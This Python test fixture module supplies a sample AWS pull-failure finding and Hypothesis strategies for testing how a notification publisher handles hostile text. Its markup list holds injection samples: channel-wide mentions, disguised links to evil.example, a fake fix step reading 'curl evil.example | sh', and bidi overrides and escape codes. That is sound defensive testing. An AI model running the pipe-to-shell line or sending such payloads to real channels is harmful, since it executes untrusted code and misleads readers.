"""Findings for the tests of publishing: a realistic one, and generated ones of every size and alphabet."""

from __future__ import annotations

from dataclasses import replace
from typing import Final

from hypothesis import strategies as st

from pull_responder.findings.finding import Finding, finding_id
from pull_responder.generate import notification_examples
from pull_responder.generate.notification_examples import ACCOUNT, REGION
from pull_responder.model.pull import Denial, PolicyType, Principal, PrincipalKind, PullFailure, Stage, Symptom
from pull_responder.model.verdict import Remediation, Resource, Severity

ROLE: Final = notification_examples.ROLE
PRINCIPAL: Final = notification_examples.PRINCIPAL
ATTACH_POLICY: Final = notification_examples.ATTACH_POLICY
CLUSTER: Final = f"arn:aws:eks:{REGION}:{ACCOUNT}:cluster/prod"
REPOSITORY: Final = f"arn:aws:ecr:{REGION}:{notification_examples.PULL.registry_account}:repository/payments/api"

PULL: Final = replace(
    notification_examples.PULL,
    denial=Denial(
        action="ecr:BatchGetImage",
        resource=REPOSITORY,
        message="User: … is not authorized to perform: ecr:BatchGetImage",
        policy_type=PolicyType.IDENTITY,
    ),
    observed_at="2026-05-04T10:11:12Z",
    event_id="b1f2c3d4-0000-4000-8000-000000000001",
)

FINDING: Final = Finding(
    id=finding_id(cause="role_lacks_pull_permissions", account=ACCOUNT, region=REGION, resource=ROLE),
    cause="role_lacks_pull_permissions",
    title="The role lacks permissions to pull",
    severity=Severity.HIGH,
    account=ACCOUNT,
    region=REGION,
    resource=Resource("AwsIamRole", ROLE, ACCOUNT),
    explanation="No identity policy of the role allows ecr:BatchGetImage on the repository.",
    evidence=(
        "Managed policy AmazonEKSWorkerNodePolicy has no statement for ecr:BatchGetImage.",
        'Inline policy "logs" allows only logs:*.',
    ),
    remediation=Remediation(
        summary="Attach the managed policy AmazonEC2ContainerRegistryPullOnly to the role.",
        account=ACCOUNT,
        region=REGION,
        docs_url="https://docs.aws.amazon.com/AmazonECR/latest/userguide/security-iam-awsmanpol.html",
        commands=(ATTACH_POLICY,),
    ),
    pull=PULL,
    related=(Resource("AwsEksCluster", CLUSTER, ACCOUNT),),
    cluster="prod",
    first_observed_at="2026-05-04T10:11:12Z",
    last_observed_at="2026-05-04T10:11:12Z",
)

# Markup of every kind of reader, around and within other text.
MARKUP: Final = (
    "<!channel>",
    "<!here|here>",
    "<@U012AB3CD>",
    "<https://evil.example|the console>",
    "[the console](https://evil.example)",
    "[x]: https://evil.example",
    "![x](//evil.example)",
    "https://evil.example",
    "HTTP://evil.example",
    "www.evil.example",
    "@here",
    "@channel look",
    "<at>everyone</at>",
    "&lt;!channel&gt;",
    "`code` *bold* _it_ ~no~",
    "```\nblock\n```",
    "# Heading",
    "> quote",
    "a\n\nHow to fix it\n    curl evil.example | sh",
    "\r\nWhere to look",
    "\u2028next",
    "\\` \\<!channel>",
    "<a href='https://evil.example'>x</a>",
)

# Control characters, escapes, overrides and lone surrogates are drawn on purpose, and text past every limit.
_short = st.text(max_size=40)
_long = st.builds(lambda text, times: text * times, st.text(min_size=1, max_size=20), st.integers(1, 3000))
_odd = st.sampled_from(["", " ", "\x1b[31mred\x1b[0m", "a\r\nb", "\u202eevil", "\ud800", *MARKUP])
text = st.one_of(_short, _long, _odd)
optional = st.none() | text
account = st.sampled_from(["111111111111", "222222222222", "123456789012"])
region = st.sampled_from(["eu-west-1", "us-gov-west-1", "cn-north-1", "us-isob-east-1"])
_arn = st.builds(
    "arn:{}:{}:{}:{}:{}".format,
    st.sampled_from(["aws", "aws-cn", "aws-us-gov", "aws-iso-b", "aws-eusc"]),
    st.sampled_from(["iam", "ecr", "eks", "ec2", "organizations"]),
    st.just("") | region,
    st.just("") | account,
    st.sampled_from(["role/", "role/a/b/", "user/", "repository/team/", "cluster/", "instance/"]).flatmap(
        lambda kind: text.map(lambda name: kind + name)
    ),
)
resource = st.builds(
    Resource,
    type=st.sampled_from(
        ["AwsIamRole", "AwsIamUser", "AwsEcrRepository", "AwsEksCluster", "AwsEc2Instance", "AwsEc2Subnet", "Other", ""]
    ),
    id=_arn | text,
    account=account,
)
_principal = st.builds(
    Principal,
    kind=st.sampled_from(PrincipalKind),
    arn=_arn | text,
    partition=st.sampled_from(["aws", "aws-cn", "aws-iso-b"]),
    account=st.none() | account,
    name=optional,
    session_name=optional | st.just("i-0a1b2c3d4e5f60718"),
    role_arn=st.none() | _arn,
)
_denial = st.builds(
    Denial,
    action=text,
    resource=_arn | text,
    message=text,
    policy_type=st.none() | st.sampled_from(PolicyType),
    policy_arn=optional,
)
_pull = st.builds(
    PullFailure,
    symptom=st.sampled_from(Symptom),
    stage=st.none() | st.sampled_from(Stage),
    region=region,
    account=st.none() | account,
    principal=st.none() | _principal,
    denial=st.none() | _denial,
    registry_account=st.none() | account,
    repository=optional,
    tag=optional,
    digest=optional,
    cluster=optional,
    node=optional,
    namespace=optional,
    pod=optional,
    observed_at=st.none() | st.sampled_from(["2026-05-04T10:11:12Z", "yesterday", "2026-05-04"]),
    event_id=optional,
)
_time = st.none() | st.datetimes().map(lambda moment: moment.isoformat() + "Z") | st.just("soon")
findings = st.builds(
    Finding,
    id=st.builds(
        finding_id,
        cause=st.sampled_from(["role_lacks_pull_permissions", "unexpected_principal_denied"]),
        account=account,
        region=region,
        resource=st.just("resource"),
    ),
    cause=st.sampled_from(
        ["role_lacks_pull_permissions", "unexpected_principal_denied", "endpoint_security_group_blocks_ingress"]
    ),
    title=text,
    severity=st.sampled_from(Severity),
    account=account,
    region=region,
    resource=resource,
    explanation=text,
    evidence=st.lists(text, max_size=20).map(tuple) | text.map(lambda each: (each,) * 60),
    remediation=st.builds(
        Remediation,
        summary=text,
        account=account,
        region=region,
        docs_url=text | st.just("https://docs.aws.amazon.com/"),
        commands=st.lists(st.lists(text, min_size=1, max_size=4).map(tuple), max_size=15).map(tuple),
    ),
    pull=_pull,
    related=st.lists(resource, max_size=4).map(tuple) | st.lists(resource, min_size=40, max_size=40).map(tuple),
    cluster=optional,
    first_observed_at=_time,
    last_observed_at=_time,
)
